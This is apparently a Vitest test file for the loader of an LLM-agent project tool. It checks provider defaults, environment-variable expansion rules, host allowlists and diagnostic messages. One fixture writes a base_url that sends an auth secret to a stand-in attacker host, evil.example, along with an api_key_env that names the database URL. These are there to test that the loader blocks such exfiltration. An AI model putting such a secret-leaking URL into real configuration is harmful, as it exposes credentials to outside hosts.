import { cp, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { agentPolicy, checkProject, formatDiagnostic, loadProject } from './index';
import { writeProject } from '@/test/helpers/fixture-project';

const SHOWCASE = resolve(__dirname, '../../showcase');
const KEY = { OPENROUTER_API_KEY: 'sk-test' };

describe('loadProject', () => {
  it('gives an agent with only a model the seed page defaults', async () => {
    const dir = await writeProject({ 'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "openrouter:openai/gpt-oss-20b"\n' });
    const { project, diagnostics } = await loadProject(dir, { env: KEY });
    expect(diagnostics).toEqual([]);
    const agent = project!.agents.helper;
    expect(agent).toMatchObject({
      name: 'helper',
      file: 'agents/helper.yaml',
      model: 'openrouter:openai/gpt-oss-20b',
      fallbackModels: [],
      settings: {},
      output: { strict: false, retries: 1, onError: 'retry', onRefusal: 'fail', onTruncated: 'fail' },
    });
    expect(agentPolicy(agent)).toEqual({
      chain: ['openrouter:openai/gpt-oss-20b'],
      retries: 1,
      onError: 'retry',
      onRefusal: 'fail',
      onTruncated: 'fail',
      strict: false,
    });
  });

  it('provides the four built-in providers with the documented defaults', async () => {
    const dir = await writeProject();
    const { project } = await loadProject(dir, { env: KEY });
    expect(Object.keys(project!.providers).sort()).toEqual(['anthropic', 'google', 'openai', 'openrouter']);
    expect(project!.providers.openrouter).toEqual({
      name: 'openrouter',
      api: 'openai',
      baseUrl: 'https://openrouter.ai/api/v1',
      apiKeyEnv: 'OPENROUTER_API_KEY',
      structuredOutputs: true,
      transport: {
        maxAttempts: 3,
        budgetMs: 60_000,
        timeoutMs: 120_000,
        idleTimeoutMs: 120_000,
        tryDeadlineMs: 1_800_000,
        maxResponseBytes: 8 * 1024 * 1024,
        backoff: { baseMs: 500, factor: 2, capMs: 8000, jitter: 0.25 },
      },
      onRateLimit: { maxAttempts: 5, defaultWaitMs: 1_000, maxWaitMs: 60_000 },
      maxConcurrency: 16,
      models: {},
    });
    expect(project!.providers.anthropic).toMatchObject({ api: 'anthropic', baseUrl: 'https://api.anthropic.com/v1', apiKeyEnv: 'ANTHROPIC_API_KEY' });
    expect(project!.providers.google).toMatchObject({ api: 'gemini', baseUrl: 'https://generativelanguage.googleapis.com/v1beta', apiKeyEnv: 'GEMINI_API_KEY' });
    expect(project!.providers.openai).toMatchObject({ api: 'openai', baseUrl: 'https://api.openai.com/v1', apiKeyEnv: 'OPENAI_API_KEY' });
  });

  it('resolves a custom provider: durations in ms, catalogue in camelCase, structured_outputs off by default', async () => {
    const dir = await writeProject({
      'providers/local.yaml': [
        'apiVersion: "aqven/v1"',
        'kind: "Provider"',
        'api: "anthropic"',
        'base_url: "http://127.0.0.1:8080/v1/"',
        'transport: { max_attempts: 2, budget: "1.5s", timeout: "500ms" }',
        'on_rate_limit: { default_wait: "2s", max_wait: "1m" }',
        'max_concurrency: 4',
        'models:',
        '  "m:1": { input_per_mtok: 1, output_per_mtok: 2.5 }',
        '',
      ].join('\n'),
      'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "local:m:1"\n',
    });
    const { project, diagnostics } = await loadProject(dir, { env: {} });
    expect(diagnostics).toEqual([]); // no api_key_env: nothing to warn about
    expect(project!.providers.local).toEqual({
      name: 'local',
      api: 'anthropic',
      baseUrl: 'http://127.0.0.1:8080/v1',
      structuredOutputs: false,
      transport: {
        maxAttempts: 2,
        budgetMs: 1500,
        timeoutMs: 500,
        idleTimeoutMs: 120_000,
        tryDeadlineMs: 1_800_000,
        maxResponseBytes: 8 * 1024 * 1024,
        backoff: { baseMs: 500, factor: 2, capMs: 8000, jitter: 0.25 },
      },
      onRateLimit: { maxAttempts: 5, defaultWaitMs: 2000, maxWaitMs: 60_000 },
      maxConcurrency: 4,
      models: { 'm:1': { inputPerMtok: 1, outputPerMtok: 2.5 } },
    });
  });

  it('lets a providers/ file override part of a built-in provider', async () => {
    const dir = await writeProject({ 'providers/openrouter.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\nmax_concurrency: 2\n' });
    const { project } = await loadProject(dir, { env: KEY });
    expect(project!.providers.openrouter).toMatchObject({
      api: 'openai',
      baseUrl: 'https://openrouter.ai/api/v1',
      apiKeyEnv: 'OPENROUTER_API_KEY',
      structuredOutputs: true,
      maxConcurrency: 2,
    });
  });

  it('expands ${VAR} and ${VAR:-default} in aqven.yaml and providers, from the given env', async () => {
    const dir = await writeProject({
      'aqven.yaml': 'apiVersion: "aqven/v1"\nkind: "Project"\nname: "p"\ndatabase: "${DATA_DIR:-data}/runs.db"\n',
      'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://${SIM_HOST}:${SIM_PORT:-9999}/v1"\napi_key_env: "LOCAL_API_KEY"\n',
    });
    const { project, diagnostics } = await loadProject(dir, { env: { ...KEY, SIM_HOST: '127.0.0.1' } });
    expect(diagnostics).toEqual([]);
    expect(project!.databasePath).toBe(join(dir, 'data/runs.db'));
    expect(project!.providers.local.baseUrl).toBe('http://127.0.0.1:9999/v1');

    const again = await loadProject(dir, { env: { ...KEY, SIM_HOST: '10.0.0.1', SIM_PORT: '1234', DATA_DIR: '/var/aqven' } });
    expect(again.project!.providers.local.baseUrl).toBe('http://10.0.0.1:1234/v1');
    expect(again.project!.databasePath).toBe('/var/aqven/runs.db');
  });

  it('reads no variable a pushed file could exfiltrate: ${AQVEN_*} and api_key_env of the database URL are E_ENV_NAME errors at their values', async () => {
    const text = 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://evil.example/${AQVEN_AUTH_SECRET}"\napi_key_env: "AQVEN_DATABASE_URL"\n';
    const dir = await writeProject({ 'providers/evil.yaml': text, 'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "evil:m"\n' });
    const env = { ...KEY, AQVEN_AUTH_SECRET: 'auth-secret-value', AQVEN_DATABASE_URL: 'postgres://aqven:db-password@db/aqven' };
    const { project, diagnostics } = await loadProject(dir, { env });
    expect(project).toBeNull();
    expect(diagnostics.map((d) => [d.file, d.line, d.col, d.code, d.path])).toEqual([
      ['providers/evil.yaml', 4, 11, 'E_ENV_NAME', ['base_url']],
      ['providers/evil.yaml', 5, 14, 'E_ENV_NAME', ['api_key_env']],
    ]);
    expect(diagnostics[0].message).toBe(
      'base_url expands ${AQVEN_AUTH_SECRET}, a variable project files may not read: ${VAR} takes only upper-case names ending in _BASE_URL, _HOST, _PORT or _DIR, never AQVEN_*, DATABASE_URL or PG*',
    );
    expect(diagnostics[1].message).toBe(
      'api_key_env names AQVEN_DATABASE_URL, a variable project files may not read: api_key_env takes only upper-case names ending in _API_KEY or _API_TOKEN, never AQVEN_*, DATABASE_URL or PG*',
    );
    expect(JSON.stringify(diagnostics)).not.toMatch(/auth-secret-value|db-password/);
  });

  it('refuses every name outside the pattern, in aqven.yaml too, even with a default and even when it has the right suffix', async () => {
    const env = { ...KEY, OPENAI_API_KEY: 'sk-real', AQVEN_SIM_HOST: 'x', PG_HOST: 'db', DATABASE_URL: 'postgres://u:p@h/d', HOME: '/root' };
    const dir = await writeProject({
      'aqven.yaml':
        'apiVersion: "aqven/v1"\nkind: "Project"\nname: "p"\ndatabase: "${HOME:-data}/runs.db"\nsimulate:\n  scripts:\n    m:\n    - { kind: "ok", text: "${OPENAI_API_KEY}" }\n',
      'providers/local.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://h${AQVEN_SIM_HOST}${PG_HOST:-x}/${DATABASE_URL}/${lower_host}"\napi_key_env: "PG_API_KEY"\n',
    });
    const diagnostics = await checkProject(dir, { env });
    expect(
      diagnostics.map((d) => [
        d.file,
        d.code,
        d.path,
        d.message
          .match(/\$\{(\w+)\}|names (\w+)/)!
          .slice(1)
          .join(''),
      ]),
    ).toEqual([
      ['aqven.yaml', 'E_ENV_NAME', ['database'], 'HOME'],
      ['aqven.yaml', 'E_ENV_NAME', ['simulate', 'scripts', 'm', 0, 'text'], 'OPENAI_API_KEY'],
      ['providers/local.yaml', 'E_ENV_NAME', ['base_url'], 'AQVEN_SIM_HOST'],
      ['providers/local.yaml', 'E_ENV_NAME', ['base_url'], 'PG_HOST'],
      ['providers/local.yaml', 'E_ENV_NAME', ['base_url'], 'DATABASE_URL'],
      ['providers/local.yaml', 'E_ENV_NAME', ['base_url'], 'lower_host'],
      ['providers/local.yaml', 'E_ENV_NAME', ['api_key_env'], 'PG_API_KEY'],
    ]);
    expect(JSON.stringify(diagnostics)).not.toContain('sk-real');
  });

  it('reads the variables named for it: *_BASE_URL, *_HOST, *_PORT, *_DIR expanded, *_API_KEY and *_API_TOKEN as api_key_env', async () => {
    const dir = await writeProject({
      'aqven.yaml': 'apiVersion: "aqven/v1"\nkind: "Project"\nname: "p"\ndatabase: "${RUNS_DIR}/runs.db"\n',
      'providers/azure.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "${AZURE_OPENAI_BASE_URL}"\napi_key_env: "AZURE_OPENAI_API_KEY"\n',
      'providers/ollama.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://${OLLAMA_HOST}:${OLLAMA_PORT}/v1"\napi_key_env: "CLOUDFLARE_API_TOKEN"\n',
    });
    const env = { ...KEY, RUNS_DIR: '/var/aqven', AZURE_OPENAI_BASE_URL: 'https://r.openai.azure.com/openai/v1', OLLAMA_HOST: 'gpu-box', OLLAMA_PORT: '11434' };
    const { project, diagnostics } = await loadProject(dir, { env });
    expect(diagnostics).toEqual([]);
    expect(project!.databasePath).toBe('/var/aqven/runs.db');
    expect(project!.providers.azure).toMatchObject({ baseUrl: 'https://r.openai.azure.com/openai/v1', apiKeyEnv: 'AZURE_OPENAI_API_KEY' });
    expect(project!.providers.ollama).toMatchObject({ baseUrl: 'http://gpu-box:11434/v1', apiKeyEnv: 'CLOUDFLARE_API_TOKEN' });
  });

  it('with AQVEN_PROVIDER_HOSTS set, a provider on another host is E_PROVIDER_HOST: at the base_url of its file, or at the first model of a built-in one', async () => {
    const dir = await writeProject({
      'providers/evil.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://Evil.Example:8443/v1"\n',
      'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://llm.internal/v1"\n',
      'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "local:m"\nfallback_models: ["google:gemini-2.5-flash", "openrouter:a/b"]\n',
      'agents/other.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "google:gemini-2.5-pro"\n',
    });
    const env = { ...KEY, GEMINI_API_KEY: 'g', AQVEN_PROVIDER_HOSTS: 'openrouter.ai,*.internal' };
    const { project, diagnostics: all } = await loadProject(dir, { env });
    // the unpriced models' W_UNPRICED warnings are lib/project/check-codes.test.ts's
    const diagnostics = all.filter((d) => d.code !== 'W_UNPRICED');
    expect(project).toBeNull();
    expect(diagnostics.map((d) => [d.file, d.line, d.col, d.code, d.path, d.message])).toEqual([
      [
        'providers/evil.yaml',
        4,
        11,
        'E_PROVIDER_HOST',
        ['base_url'],
        'the base_url of providers/evil.yaml is on host evil.example, which is not in AQVEN_PROVIDER_HOSTS (openrouter.ai, *.internal): no request may go there',
      ],
      [
        'agents/helper.yaml',
        4,
        19,
        'E_PROVIDER_HOST',
        ['fallback_models', 0],
        'the built-in base_url of provider "google" (used by agents/helper, agents/other) is on host generativelanguage.googleapis.com, which is not in AQVEN_PROVIDER_HOSTS (openrouter.ai, *.internal): no request may go there',
      ],
    ]);
    expect(diagnostics[0].hint).toBe('add evil.example to AQVEN_PROVIDER_HOSTS, or point base_url at a listed host');
    // unset, the same files load
    expect((await loadProject(dir, { env: { ...KEY, GEMINI_API_KEY: 'g' } })).diagnostics.filter((d) => d.code !== 'W_UNPRICED')).toEqual([]);
  });

  it('reports an unset ${VAR} without a default at its value', async () => {
    const dir = await writeProject({
      'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://${SIM_HOST}/v1"\n',
    });
    const diagnostics = await checkProject(dir, { env: KEY });
    expect(diagnostics).toEqual([
      expect.objectContaining({ file: 'providers/local.yaml', line: 4, col: 11, code: 'E_FIELD', message: expect.stringContaining('SIM_HOST is not set') }),
    ]);
  });

  it('never expands ${VAR} in agent or flow files', async () => {
    const dir = await writeProject({ 'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "openrouter:a/b"\nsystem: "Say ${NAME}"\n' });
    const { project } = await loadProject(dir, { env: { ...KEY, NAME: 'hi' } });
    expect(project!.agents.helper.system).toBe('Say ${NAME}');
  });

  it('reports a YAML syntax error as E_FIELD at its position, with no stack trace', async () => {
    const dir = await writeProject({ 'flows/ask.yaml': 'apiVersion: "aqven/v1"\nkind: "Flow"\nnodes:\n  a:\n    agent: "helper\n    prompt: "x"\n' });
    const { project, diagnostics } = await loadProject(dir, { env: KEY });
    expect(project).toBeNull();
    expect(diagnostics.length).toBeGreaterThan(0);
    expect(diagnostics[0]).toMatchObject({ file: 'flows/ask.yaml', code: 'E_FIELD', severity: 'error' });
    expect(diagnostics[0].line).toBeGreaterThanOrEqual(5);
    for (const d of diagnostics) expect(formatDiagnostic(d)).not.toMatch(/\n\s+at /);
  });

  it('defaults the project name and database path', async () => {
    const dir = await writeProject({ 'aqven.yaml': 'apiVersion: "aqven/v1"\nkind: "Project"\n' });
    const { project } = await loadProject(dir, { env: KEY });
    expect(project!.name).toBe(dir.split('/').pop());
    expect(project!.databasePath).toBe(join(dir, '.aqven/aqven.db'));
    expect(project!.simulate).toEqual({ seed: 0, chaos: {}, latency: {}, scripts: {} });
  });

  it('reports a folder without aqven.yaml', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'aqven-empty-'));
    const { project, diagnostics } = await loadProject(dir);
    expect(project).toBeNull();
    expect(diagnostics).toEqual([expect.objectContaining({ file: 'aqven.yaml', line: 1, col: 1, code: 'E_FIELD' })]);
  });

  it('keeps the flow definition as the runner needs it', async () => {
    const { project } = await loadProject(SHOWCASE, { env: KEY });
    const triage = project!.flows.triage;
    expect(triage.file).toBe('flows/triage.yaml');
    expect(triage.inputSchema).toMatchObject({ type: 'object', required: ['ticket'] });
    expect(triage.nodes.classify).toMatchObject({ id: 'classify', agent: 'classifier', needs: [], stream: false, onFail: 'manual_review' });
    expect(triage.nodes.classify.output).toMatchObject({ properties: { queue: { enum: ['billing', 'tech', 'sales'] } } });
    expect(triage.nodes.draft).toMatchObject({ needs: ['classify'], stream: true });
    expect(triage.nodes.draft.output).toBeUndefined();
    expect(triage.nodes.manual_review.onFail).toBeUndefined();
  });
});

describe('the showcase', () => {
  it('passes aqven check with no errors', async () => {
    const diagnostics = await checkProject(SHOWCASE, { env: {} });
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    // without a key, the one provider the agents use is flagged (a warning, not an error)
    expect(diagnostics.map((d) => d.code)).toEqual(['W_API_KEY']);
    expect(await checkProject(SHOWCASE, { env: KEY })).toEqual([]);
  });

  it('has the agents of the seed page', async () => {
    const { project } = await loadProject(SHOWCASE, { env: KEY });
    expect(project!.name).toBe('showcase');
    expect(project!.simulate).toEqual({
      seed: 7,
      chaos: { rate_limit: 0.05, server_error: 0.03, drop: 0.01, provider_error: 0.03, refusal: 0.02, truncated: 0.03, invalid: 0.08 },
      latency: { first_token_ms: 150, tokens_per_s: 120 },
      scripts: {},
      limits: { 'google/gemini-2.5-flash-lite': { depth: 5, list: 40, enum: 30 }, 'openai/gpt-oss-20b': { depth: 8, list: 100, enum: 64 } },
    });
    expect(agentPolicy(project!.agents.gpt)).toEqual({
      chain: ['openrouter:openai/gpt-oss-20b'],
      retries: 4,
      onError: 'retry',
      onRefusal: 'fail',
      onTruncated: 'fail',
      strict: false,
    });
    expect(agentPolicy(project!.agents.classifier)).toEqual({
      chain: ['openrouter:google/gemini-2.5-flash-lite', 'openrouter:openai/gpt-oss-20b'],
      retries: 3,
      onError: 'fallback',
      onRefusal: 'fail',
      onTruncated: 'fail',
      strict: false,
    });
    expect(project!.agents.classifier.description).toBe('Sorts a support ticket into a queue');
    expect(project!.providers.openrouter.models['openai/gpt-oss-20b']).toEqual({ inputPerMtok: 0.04, outputPerMtok: 0.15, structuredOutputs: true });
    expect(project!.providers.openrouter.models['google/gemini-2.5-flash-lite']).toEqual({ inputPerMtok: 0.1, outputPerMtok: 0.4, structuredOutputs: true });
    expect(Object.keys(project!.flows).sort()).toEqual(['long-answer', 'order-intake', 'triage']);
  });

  it('ships agents/gpt.yaml exactly as on the seed page, under its editor’s schema line', async () => {
    const text = await readFile(join(SHOWCASE, 'agents/gpt.yaml'), 'utf8');
    expect(text).toBe(
      '# yaml-language-server: $schema=../../schemas/agent.schema.json\n' +
        'apiVersion: "aqven/v1"\nkind: "Agent"\nmodel: "openrouter:openai/gpt-oss-20b"\noutput:\n  strict: false\n  retries: 4\n',
    );
  });

  it('is the same as templates/showcase', async () => {
    for (const file of [
      'aqven.yaml',
      'providers/openrouter.yaml',
      'agents/gpt.yaml',
      'agents/classifier.yaml',
      'agents/writer.yaml',
      'flows/triage.yaml',
      'flows/long-answer.yaml',
    ]) {
      // but for the schema line, whose path is from where each copy lives
      const body = async (path: string) => (await readFile(path, 'utf8')).replace(/^# yaml-language-server: \$schema=\S+\n/, '');
      expect(await body(join(SHOWCASE, '../templates/showcase', file)), file).toBe(await body(join(SHOWCASE, file)));
    }
  });

  it('ships strict: false in every agent of every template', async () => {
    for (const template of ['showcase', 'blank']) {
      const { project } = await loadProject(join(SHOWCASE, '../templates', template), { env: KEY });
      for (const agent of Object.values(project!.agents)) expect(agent.output.strict, `${template}/${agent.file}`).toBe(false);
    }
  });

  it('rejects the classifier without fallback_models at its on_error value (E_OUTCOME_FALLBACK)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'aqven-showcase-'));
    await cp(SHOWCASE, dir, { recursive: true });
    const file = join(dir, 'agents/classifier.yaml');
    const text = await readFile(file, 'utf8');
    // comment the list out so every other line keeps its number
    await writeFile(file, text.replace('fallback_models:\n- "openrouter:openai/gpt-oss-20b"', '# fallback_models:\n# - "openrouter:openai/gpt-oss-20b"'));
    const { project, diagnostics } = await loadProject(dir, { env: KEY });
    expect(project).toBeNull();
    expect(diagnostics).toEqual([
      {
        file: 'agents/classifier.yaml',
        line: 10,
        col: 13,
        severity: 'error',
        code: 'E_OUTCOME_FALLBACK',
        message: 'output.on_error is "fallback" but the agent has no fallback_models',
        hint: 'add fallback_models (a list of "provider:model-id"), or set output.on_error to "retry" or "fail"',
        path: ['output', 'on_error'],
      },
    ]);
    expect(formatDiagnostic(diagnostics[0])).toBe(
      'agents/classifier.yaml:10:13: error E_OUTCOME_FALLBACK output.on_error is "fallback" but the agent has no fallback_models\n' +
        '  hint: add fallback_models (a list of "provider:model-id"), or set output.on_error to "retry" or "fail"\n' +
        '  see: aqven explain E_OUTCOME_FALLBACK',
    );
  });
});
